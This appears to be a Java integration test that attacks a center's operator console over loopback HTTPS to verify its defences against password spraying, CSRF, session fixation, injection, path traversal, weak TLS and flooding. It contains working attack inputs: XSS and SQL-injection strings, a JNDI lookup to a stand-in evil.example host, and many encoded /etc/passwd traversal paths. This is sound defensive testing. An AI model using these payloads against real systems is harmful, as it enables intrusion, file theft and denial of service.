package dev.shomei.center.abuse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.shomei.card.sim.CardFactory;
import dev.shomei.center.console.auth.OperatorAccounts;
import dev.shomei.center.console.auth.Role;
import dev.shomei.center.testing.CenterFixture;
import dev.shomei.center.testing.FakeBackend;
import dev.shomei.center.testing.FakeBackendServer;
import dev.shomei.center.testing.FakeMunicipalities;
import dev.shomei.center.testing.Https;
import dev.shomei.protocol.abuse.HttpFlood;
import dev.shomei.protocol.abuse.RawHttps;
import dev.shomei.protocol.abuse.RawTls;
import dev.shomei.protocol.abuse.TlsProbe;
import dev.shomei.protocol.otp.Base32;
import dev.shomei.protocol.otp.Totp;
import dev.shomei.protocol.pki.DevPki;
import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import javax.net.ssl.SSLContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The operator console of a whole center on loopback, attacked over real HTTPS: password guessing
 * per account and across accounts from one address, CSRF, session fixation, injection in every input,
 * path traversal on the assets, TLS downgrade, slow and flooding clients.
 */
class CenterConsoleAbuseIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PASSWORD = "a long operator password";
    private static final List<String> ATTACKS = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "' OR '1'='1", "'; DROP TABLE terminals; --", "../../etc/passwd", "${jndi:ldap://evil.example/a}");

    @TempDir
    static Path pkiDir;
    static DevPki pki;

    @TempDir
    Path dir;
    CenterFixture fixture;
    final Map<String, byte[]> secrets = new java.util.HashMap<>();

    @BeforeAll
    static void keys() {
        pki = DevPki.ensure(pkiDir);
    }

    @BeforeEach
    void start() {
        // accounts written before the center starts; few PBKDF2 rounds so that guessing tests stay quick
        OperatorAccounts accounts = new OperatorAccounts(dir.resolve("operators.json"), new SecureRandom(), 1_000);
        for (String name : List.of("admin", "operator", "operator2", "operator3")) {
            secrets.put(name, Base32.decodeAllowingHyphens(accounts.create(name, name.equals("admin") ? Role.ADMIN : Role.OPERATOR,
                    PASSWORD.toCharArray())));
        }
        FakeBackend backend = new FakeBackend(pki, Clock.systemUTC());
        fixture = new CenterFixture(dir, pki, CardFactory.inMemory(), new FakeBackendServer(pki, backend), s -> s);
        fixture.center.municipalities().refresh();
    }

    @AfterEach
    void stop() {
        fixture.close();
        fixture.backend.close();
    }

    private Https client() {
        return new Https(pki, fixture.center.consolePort());
    }

    private HttpResponse<String> login(Https http, String user, String password) throws Exception {
        return http.post("/api/login", JSON.writeValueAsString(Map.of("username", user, "password", password,
                "code", Totp.standard().code(secrets.getOrDefault(user, new byte[20]), Instant.now()))));
    }

    private void loggedIn(Https http, String user) throws Exception {
        HttpResponse<String> ok = login(http, user, PASSWORD);
        assertEquals(200, ok.statusCode(), ok.body());
        http.csrf(JSON.readTree(ok.body()).get("csrfToken").asText());
    }

    @Test
    void guessingLocksTheAccountAndThenTheAddressEvenForAnAccountNeverGuessed() throws Exception {
        Https attacker = client();
        for (int i = 0; i < 5; i++) {
            assertEquals(401, login(attacker, "operator", "guess " + i).statusCode());
        }
        assertEquals(401, login(attacker, "operator", PASSWORD).statusCode(), "locked: the right password is refused");
        // password spraying: one guess per made-up or real name, all from 127.0.0.1
        for (int i = 0; i < 20; i++) {
            login(attacker, "user" + i, "Winter2026!");
        }
        HttpResponse<String> fromSprayer = login(client(), "operator2", PASSWORD);
        assertEquals(401, fromSprayer.statusCode(), "the address that sprayed 20 guesses is locked too");
        assertEquals(login(attacker, "nobody", "x").body(), fromSprayer.body(), "a lock looks like any failure");
    }

    @Test
    void changesWithoutTheTokenOrFromAnotherOriginAreRefusedAndChangeNothing() throws Exception {
        Https http = client();
        loggedIn(http, "admin");
        String token = JSON.readTree(http.get("/api/me").body()).get("csrfToken").asText();
        String change = "{\"participating\":false,\"feePerCopyYen\":999,\"opensAt\":\"07:00\",\"closesAt\":\"22:00\"}";
        List<HttpRequest.Builder> attempts = new ArrayList<>();
        for (String csrf : new String[] {null, "forged", token.substring(1) + "x", ""}) {
            http.csrf(csrf);
            attempts.add(http.builder("/api/terminals/K0001/disable").POST(HttpRequest.BodyPublishers.noBody()));
            attempts.add(http.builder("/api/municipalities/" + FakeMunicipalities.BUNKYO)
                    .PUT(HttpRequest.BodyPublishers.ofString(change)).header("Content-Type", "application/json"));
            attempts.add(http.builder("/api/maintenance").POST(HttpRequest.BodyPublishers.ofString(
                    "{\"start\":\"2030-01-01T01:00\",\"end\":\"2030-01-01T03:00\",\"note\":\"x\"}"))
                    .header("Content-Type", "application/json"));
        }
        http.csrf(token);
        for (String origin : List.of("https://evil.example", "null", "http://localhost:" + fixture.center.consolePort(),
                "https://localhost.evil.example")) {
            attempts.add(http.builder("/api/terminals/K0001/disable").POST(HttpRequest.BodyPublishers.noBody())
                    .header("Origin", origin));
        }
        for (HttpRequest.Builder attempt : attempts) {
            HttpResponse<String> response = http.send(attempt.build());
            assertEquals(403, response.statusCode(), response.body());
        }
        assertTrue(fixture.center.registry().isEnabled("K0001"), "refused changes change nothing");
        assertEquals(120, fixture.center.municipalities().find(FakeMunicipalities.BUNKYO).orElseThrow().feePerCopyYen());
        // a cross-site login (login CSRF) is refused as well
        HttpResponse<String> crossSiteLogin = client().send(client().builder("/api/login")
                .POST(HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(Map.of("username", "operator3",
                        "password", PASSWORD, "code", Totp.standard().code(secrets.get("operator3"), Instant.now())))))
                .header("Content-Type", "application/json").header("Origin", "https://evil.example").build());
        assertEquals(403, crossSiteLogin.statusCode());
        // and the control: the same change with the token from this origin goes through
        assertEquals(200, http.post("/api/terminals/K0001/disable", "").statusCode());
        assertFalse(fixture.center.registry().isEnabled("K0001"));
    }

    @Test
    void aSessionIdFromBeforeLoginOrLogoutIsNeverAccepted() throws Exception {
        Https victim = client();
        victim.cookie("__Host-shomei-center=attacker-chosen-id");
        loggedIn(victim, "operator");
        String session = victim.cookie();
        assertNotEquals("__Host-shomei-center=attacker-chosen-id", session, "the server chose the id");
        Https attacker = client();
        attacker.cookie("__Host-shomei-center=attacker-chosen-id");
        assertEquals(401, attacker.get("/api/me").statusCode(), "the planted id is no session");

        // logging in again on a live session replaces it; the old id dies
        loggedIn(victim, "operator2");
        assertNotEquals(session, victim.cookie());
        attacker.cookie(session);
        assertEquals(401, attacker.get("/api/me").statusCode(), "the pre-login id is refused after the new login");

        String current = victim.cookie();
        assertEquals(200, victim.post("/api/logout", "").statusCode());
        attacker.cookie(current);
        assertEquals(401, attacker.get("/api/me").statusCode(), "a logged-out id is refused");
    }

    @Test
    void injectionInEveryInputIsDataNeverMarkupOrCode() throws Exception {
        Https http = client();
        for (String attack : ATTACKS) {
            HttpResponse<String> refused = http.post("/api/login", JSON.writeValueAsString(Map.of(
                    "username", attack, "password", attack, "code", attack)));
            assertEquals(401, refused.statusCode());
            assertFalse(refused.body().contains("<"), refused.body());
        }
        loggedIn(http, "admin");
        for (String attack : ATTACKS) {
            String path = java.net.URLEncoder.encode(attack, StandardCharsets.UTF_8).replace("+", "%20");
            for (HttpResponse<String> response : List.of(
                    http.post("/api/terminals/" + path + "/disable", ""),
                    http.post("/api/alerts/" + path + "/ack", ""),
                    http.put("/api/municipalities/" + path, "{\"feePerCopyYen\":100}"),
                    http.put("/api/municipalities/" + FakeMunicipalities.BUNKYO, JSON.writeValueAsString(Map.of(
                            "participating", attack, "feePerCopyYen", attack, "opensAt", attack, "closesAt", attack))),
                    http.post("/api/maintenance", JSON.writeValueAsString(Map.of("start", attack, "end", attack,
                            "note", attack))),
                    http.delete("/api/maintenance/" + path))) {
                assertTrue(response.statusCode() == 400 || response.statusCode() == 404, response.statusCode() + " "
                        + response.body());
                assertFalse(response.body().contains("<script") || response.body().contains("<img"), response.body());
            }
            // a note is free text: stored as given, served as JSON data (nosniff, never HTML)
            assertEquals(200, http.post("/api/maintenance", JSON.writeValueAsString(Map.of(
                    "start", "2030-01-01T01:00", "end", "2030-01-01T03:00", "note", attack))).statusCode());
            HttpResponse<String> listed = http.get("/api/maintenance");
            assertTrue(listed.headers().firstValue("Content-Type").orElseThrow().startsWith("application/json"));
            assertEquals("nosniff", listed.headers().firstValue("X-Content-Type-Options").orElseThrow());
            JsonNode windows = JSON.readTree(listed.body()).get("windows");
            assertEquals(attack, windows.get(windows.size() - 1).get("note").asText());
        }
        assertTrue(fixture.center.registry().isEnabled("K0001") && fixture.center.registry().isEnabled("K0002"));
        assertEquals(120, fixture.center.municipalities().find(FakeMunicipalities.BUNKYO).orElseThrow().feePerCopyYen());
        // the page scripts only ever set text: no HTML sink for anything the API returns
        for (String script : List.of("console.js", "login.js", "i18n.js")) {
            String js = http.get("/assets/" + script).body().replaceAll("(?m)^\\s*//.*$", ""); // code, not comments
            for (String sink : List.of("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(")) {
                assertFalse(js.contains(sink), script + " uses " + sink);
            }
        }
    }

    @Test
    void pathTraversalOnTheAssetsFindsNothing() throws Exception {
        SSLContext tls = RawTls.context(null, pki.rootCaCertificate());
        int port = fixture.center.consolePort();
        String operators = Files.readString(dir.resolve("operators.json"));
        List<String> targets = List.of("/static/../../etc/passwd", "/assets/../../etc/passwd",
                "/assets/..%2f..%2f..%2fetc%2fpasswd", "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
                "/assets/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/assets/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                "/assets/..%5c..%5c..%5cetc%5cpasswd", "/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                "/assets/....//....//etc/passwd", "/assets/..;/..;/etc/passwd", "/assets/console.js%00.html",
                "/../../../../etc/passwd", "/assets/../operators.json", "/assets/%2e%2e/operators.json",
                "/assets/..%2f..%2fconsole%2fconsole.html", "/assets/..%2f..%2fdev%2fshomei%2fcenter%2fCenterServer.class",
                "/assets/%2e%2e%2f%2e%2e%2fMETA-INF%2fMANIFEST.MF", "//etc/passwd", "/assets//etc/passwd");
        for (String target : targets) {
            RawHttps.Response response = RawHttps.get(tls, port, target);
            assertTrue(response.status() >= 300 && response.status() < 500 || response.status() == -1,
                    target + " -> " + response.status());
            assertFalse(response.text().contains("root:x:0:0"), target + " served /etc/passwd");
            assertFalse(response.text().contains(operators.substring(0, Math.min(40, operators.length()))),
                    target + " served the operator accounts");
            assertFalse(response.text().contains("Manifest-Version") || response.text().contains("\u00ca\u00fe\u00ba\u00be"),
                    target + " served a class-path resource");
        }
        assertEquals(200, RawHttps.get(tls, port, "/assets/console.js").status(), "control: a listed asset is served");
    }

    @Test
    void theConsoleRefusesTls10And11And12() throws IOException {
        for (int version : new int[] {TlsProbe.TLS_1_0, TlsProbe.TLS_1_1, TlsProbe.TLS_1_2}) {
            assertTrue(TlsProbe.refuses("127.0.0.1", fixture.center.consolePort(), version),
                    "the console accepted version " + Integer.toHexString(version));
            assertTrue(TlsProbe.refuses("127.0.0.1", fixture.center.linePort(), version),
                    "the line accepted version " + Integer.toHexString(version));
        }
    }

    @Test
    void slowAndFloodingClientsDoNotStopAnOperator() throws Exception {
        Https operator = client();
        loggedIn(operator, "operator");
        List<Long> quiet = boardLatencies(operator);
        SSLContext tls = RawTls.context(null, pki.rootCaCertificate());
        int port = fixture.center.consolePort();
        List<Long> loaded;
        int oversizedStatus;
        try (HttpFlood flood = HttpFlood.start(port, tls, 200, 50)) {
            loaded = boardLatencies(operator);
            oversizedStatus = RawHttps.get(tls, port, "/api/board?x=" + "a".repeat(70_000)).status();
        }
        assertEquals(10, loaded.size(), "every request during the flood was answered");
        assertTrue(oversizedStatus >= 400 && oversizedStatus < 500 || oversizedStatus == -1,
                "a 70 kB request line is refused, got " + oversizedStatus);
        assertEquals(200, operator.get("/api/board").statusCode(), "and the console still serves afterwards");
        String line = String.format("console flood (200 idle TCP + 50 slow-header TLS): GET /api/board ms without %s, "
                + "during %s; 70 kB request line -> %d", quiet, loaded, oversizedStatus);
        System.out.println("[console abuse] " + line);
        Path file = Path.of("target", "abuse", "center-console-flood.txt");
        Files.createDirectories(file.getParent());
        Files.writeString(file, line + System.lineSeparator());
    }

    private static List<Long> boardLatencies(Https http) {
        List<Long> latencies = new ArrayList<>();
        for (int i = 0; i < 10; i++) {
            long started = System.nanoTime();
            HttpResponse<String> board = http.get("/api/board");
            assertEquals(200, board.statusCode());
            latencies.add(Duration.ofNanos(System.nanoTime() - started).toMillis());
        }
        return latencies;
    }
}
